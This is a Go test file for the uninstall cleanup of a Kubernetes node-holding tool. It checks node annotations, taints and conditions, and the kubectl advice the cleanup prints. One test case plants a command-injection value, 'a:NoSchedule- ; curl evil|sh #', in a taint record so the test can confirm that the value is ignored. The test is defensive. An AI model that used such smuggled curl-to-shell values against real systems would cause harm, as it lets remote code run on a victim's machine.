package uninstall

import (
	"encoding/json"
	"testing"
	"time"

	jsonpatch "github.com/evanphx/json-patch/v5"
	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/equality"
	"k8s.io/apimachinery/pkg/util/strategicpatch"

	"github.com/holdfast-dev/holdfast/internal/shared/nodepatch"
)

func TestPlanCleanup(t *testing.T) {
	for name, test := range map[string]struct{ before, after, closedBy, open string }{
		"unknown to Holdfast": {
			before: `{"metadata":{"resourceVersion":"1","labels":{"a":"b"},
				"annotations":{"karpenter.sh/do-not-disrupt":"true"}},"spec":{"unschedulable":true}}`,
			after: `{"metadata":{"resourceVersion":"1","labels":{"a":"b"},
				"annotations":{"karpenter.sh/do-not-disrupt":"true"}},"spec":{"unschedulable":true}}`,
		},
		"released with marks": {
			before: `{"metadata":{"resourceVersion":"1",
				"annotations":{"holdfast.dev/hold":"{\"state\":\"released\",\"marks\":[\"karpenter.sh/do-not-disrupt\"]}",
				"karpenter.sh/do-not-disrupt":"true","atlassian.com/no-delete":"mine"}},"spec":{"unschedulable":true},
				"status":{"conditions":[{"type":"NetworkUnavailable","status":"False","reason":"ReleasedByHand"}]}}`,
			after: `{"metadata":{"resourceVersion":"1","annotations":{"atlassian.com/no-delete":"mine"}},
				"spec":{"unschedulable":true}}`,
		},
		"held, mark changed by a person": {
			before: `{"metadata":{"resourceVersion":"1","annotations":{
				"holdfast.dev/hold":"{\"state\":\"held\",\"marks\":[\"karpenter.sh/do-not-disrupt\",\"atlassian.com/no-delete\"]}",
				"karpenter.sh/do-not-disrupt":"true","atlassian.com/no-delete":"mine"}}}`,
			after: `{"metadata":{"resourceVersion":"1","annotations":{"atlassian.com/no-delete":"mine"}}}`,
		},
		"held by cordon": {
			before: `{"metadata":{"resourceVersion":"1","annotations":{"a":"b",
				"holdfast.dev/hold":"{\"state\":\"held\",\"marks\":[\"karpenter.sh/do-not-disrupt\"]}",
				"karpenter.sh/do-not-disrupt":"true","atlassian.com/no-delete":"mine"}},"spec":{"unschedulable":true,
				"taints":[{"key":"x","effect":"NoSchedule"}]},
				"status":{"conditions":[{"type":"NetworkUnavailable","status":"True","reason":"HeldByHoldfast"},
				{"type":"Ready","status":"True"},{"type":"NetworkHeld","status":"True"}]}}`,
			after: `{"metadata":{"resourceVersion":"1","annotations":{"a":"b","atlassian.com/no-delete":"mine"}},
				"spec":{"unschedulable":false,"taints":[{"key":"x","effect":"NoSchedule"}]},
				"status":{"conditions":[{"type":"Ready","status":"True"}]}}`,
		},
		"held by taint": {
			before: `{"metadata":{"resourceVersion":"1",
				"annotations":{"holdfast.dev/hold":"{\"state\":\"held\",\"taint\":\"readiness.k8s.io/x\"}"}},
				"spec":{"unschedulable":true,"taints":[{"key":"readiness.k8s.io/x","effect":"NoSchedule"},
				{"key":"readiness.k8s.io/x","effect":"NoExecute"}]}}`,
			after: `{"metadata":{"resourceVersion":"1","annotations":{}},"spec":{"unschedulable":true,
				"taints":[{"key":"readiness.k8s.io/x","effect":"NoExecute"}]}}`,
		},
		"keep-cordoned, hold by taint has ended": {
			before: `{"metadata":{"resourceVersion":"1","annotations":{"holdfast.dev/keep-cordoned":"x","holdfast.dev/hold":
				"{\"state\":\"released\",\"reason\":\"KeptCordoned\",\"taint\":\"readiness.k8s.io/x\"}"}},
				"spec":{"unschedulable":true,"taints":[{"key":"readiness.k8s.io/x","effect":"NoSchedule"}]}}`,
			after: `{"metadata":{"resourceVersion":"1","annotations":{"holdfast.dev/keep-cordoned":"x"}},
				"spec":{"unschedulable":true,"taints":[{"key":"readiness.k8s.io/x","effect":"NoSchedule"}]}}`,
			closedBy: "annotation holdfast.dev/keep-cordoned",
			open:     "kubectl taint node n readiness.k8s.io/x:NoSchedule-; kubectl uncordon n",
		},
		"record with a taint that the node does not have": {
			before: `{"metadata":{"resourceVersion":"1","annotations":{"holdfast.dev/keep-cordoned":"x","holdfast.dev/hold":
				"{\"state\":\"held\",\"taint\":\"a:NoSchedule- ; curl evil|sh #\"}"}},"spec":{"unschedulable":true}}`,
			after: `{"metadata":{"resourceVersion":"1","annotations":{"holdfast.dev/keep-cordoned":"x"}},
				"spec":{"unschedulable":true}}`,
		},
		"replaced cordon": {
			before: `{"metadata":{"resourceVersion":"1","annotations":{"holdfast.dev/hold":"{\"state\":\"held\"}"},
				"managedFields":[{"manager":"kubectl-cordon","fieldsV1":{"f:spec":{"f:unschedulable":{}}}}]},
				"spec":{"unschedulable":true}}`,
			after: `{"metadata":{"resourceVersion":"1","annotations":{},
				"managedFields":[{"manager":"kubectl-cordon","fieldsV1":{"f:spec":{"f:unschedulable":{}}}}]},
				"spec":{"unschedulable":true}}`,
			closedBy: "cordoned by kubectl-cordon", open: "kubectl uncordon n",
		},
		"cordoned after release": {
			before: `{"metadata":{"resourceVersion":"1","annotations":{"holdfast.dev/hold":"{\"state\":\"released\"}"},
				"labels":{"holdfast.dev/hold":"never"}},"spec":{"unschedulable":true},
				"status":{"conditions":[{"type":"NetworkUnavailable","status":"False","reason":"ReleasedByHoldfast"}]}}`,
			after: `{"metadata":{"resourceVersion":"1","annotations":{},"labels":{"holdfast.dev/hold":"never"}},
				"spec":{"unschedulable":true},"status":{"conditions":[]}}`,
		},
		"etcd, foreign annotation": {
			before: `{"metadata":{"resourceVersion":"1","labels":{"holdfast.dev/etcd-member":"true"},
				"annotations":{"holdfast.dev/marks":"atlassian.com/no-delete,example.org/x",
				"atlassian.com/no-delete":"etcd","karpenter.sh/do-not-disrupt":"true","example.org/x":"y",
				"holdfast.dev/etcd":"[]","holdfast.dev/etcd-unverified":"[]",
				"holdfast.dev/protected-because":"etcd","holdfast.dev/openstack":"{}","holdfast.dev/shutdown":"{}"}},
				"status":{"conditions":[{"type":"EtcdMember","status":"True"},{"type":"NetworkUnavailable","status":"False",
				"reason":"FlannelIsUp"}]}}`,
			after: `{"metadata":{"resourceVersion":"1","labels":{},"annotations":{"karpenter.sh/do-not-disrupt":"true",
				"example.org/x":"y"}},
				"status":{"conditions":[{"type":"NetworkUnavailable","status":"False","reason":"FlannelIsUp"}]}}`,
		},
		"SPC, foreign and changed labels": {
			before: `{"metadata":{"resourceVersion":"1","labels":{"stackpoint.io/role":"worker",
				"stackpoint.io/private_ip":"10.0.0.1","stackpoint.io/size":"mine","example.org/x":"y"},"annotations":{
				"holdfast.dev/spc-node":"{\"role\":\"worker\",\"labels\":[\"stackpoint.io/role\",\"example.org/x\"]}",
				"holdfast.dev/spc-problem":"x"}}}`,
			after: `{"metadata":{"resourceVersion":"1","labels":{"stackpoint.io/private_ip":"10.0.0.1",
				"stackpoint.io/size":"mine","example.org/x":"y"},"annotations":{}}}`,
		},
	} {
		t.Run(name, func(t *testing.T) {
			node := parseNode(t, test.before)
			node.Name = "n"
			patches, closed := planPatches(t, node)
			var want *closedNode
			if test.closedBy != "" {
				want = &closedNode{by: test.closedBy, open: test.open}
			}
			require.Equal(t, want, closed)
			after := []byte(test.before)
			for _, p := range patches {
				var err error
				if p.Subresource == "" {
					after, err = jsonpatch.MergePatch(after, p.Body)
				} else {
					after, err = strategicpatch.StrategicMergePatch(after, p.Body, corev1.Node{})
				}
				require.NoError(t, err)
			}
			var got, wanted corev1.Node
			require.NoError(t, json.Unmarshal(after, &got))
			require.NoError(t, json.Unmarshal([]byte(test.after), &wanted))
			require.True(t, equality.Semantic.DeepEqual(wanted, got), "want %+v\ngot  %+v", wanted, got)
			again, _ := planPatches(t, &got)
			require.Empty(t, again, "a second cleanup has patches")
		})
	}
}

func TestUnreadableRecord(t *testing.T) {
	for name, test := range map[string]struct{ annotation, value, advice string }{
		"hold": {"holdfast.dev/hold", "{", "kubectl annotate node n holdfast.dev/hold-"},
		"SPC":  {"holdfast.dev/spc-node", "{", "kubectl annotate node n holdfast.dev/spc-node-"},
	} {
		t.Run(name, func(t *testing.T) {
			node := parseNode(t, `{"metadata":{"name":"n","resourceVersion":"1"},"spec":{"unschedulable":true}}`)
			node.Annotations = map[string]string{test.annotation: test.value}
			_, _, err := planCleanup(node)
			require.ErrorContains(t, err, test.advice)
		})
	}
}

// planPatches returns the patches that clean a Node.
func planPatches(t *testing.T, node *corev1.Node) ([]nodepatch.Patch, *closedNode) {
	t.Helper()
	wanted, closed, err := planCleanup(node)
	require.NoError(t, err)
	patches, err := nodepatch.Plan(node, wanted, time.Now())
	require.NoError(t, err)
	return patches, closed
}

// parseNode parses a Node in JSON.
func parseNode(t *testing.T, text string) *corev1.Node {
	t.Helper()
	node := new(corev1.Node)
	require.NoError(t, json.Unmarshal([]byte(text), node))
	return node
}
